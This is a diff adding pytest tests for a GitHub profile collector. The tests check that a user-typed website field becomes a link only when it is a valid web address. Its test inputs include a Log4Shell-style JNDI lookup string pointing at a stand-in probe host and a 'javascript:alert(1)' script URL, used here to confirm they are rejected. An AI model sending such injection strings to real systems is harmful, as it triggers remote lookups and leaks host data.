@@ -202,3 +202,31 @@ def test_does_not_match(url):
 def test_canonical(url, expected):
     assert C.canonical(url) == expected
     assert C.match(C.example)
+
+
+def test_website_that_is_not_an_address_is_text_not_a_link():
+    """The users API keeps the website field as typed: a log4j probe string is kept as text
+    (the detectors still see it) but never becomes a linked account to follow."""
+    user = "https://api.github.com/users/rhys-vantol"
+    got = C.collect("https://github.com/rhys-vantol",
+                    offline_http({user: answer(200, capture("github", "user_probe_website.json"), JSON)}))
+    assert got.status is Status.OK
+    assert [b.text for b in blocks(got, hint="website")] == ["${jndi:ldap://${hostName}.probe.example/a}"]
+    assert got.profile.links == []
+
+
+@pytest.mark.parametrize("typed,address", [
+    ("nellokoro.example", "https://nellokoro.example"),
+    ("http://blog.example.co.uk/about", "http://blog.example.co.uk/about"),
+    ("https://xn--bcher-kva.example:8443/", "https://xn--bcher-kva.example:8443/"),
+    ("${jndi:ldap://x.example/a}", None),
+    ("my blog is down", None),
+    ("localhost", None),
+    ("javascript:alert(1)", None),
+    ("ftp://files.example", None),
+    ("https://", None),
+])
+def test_web_address(typed, address):
+    from collectors.github import web_address
+
+    assert web_address(typed) == address
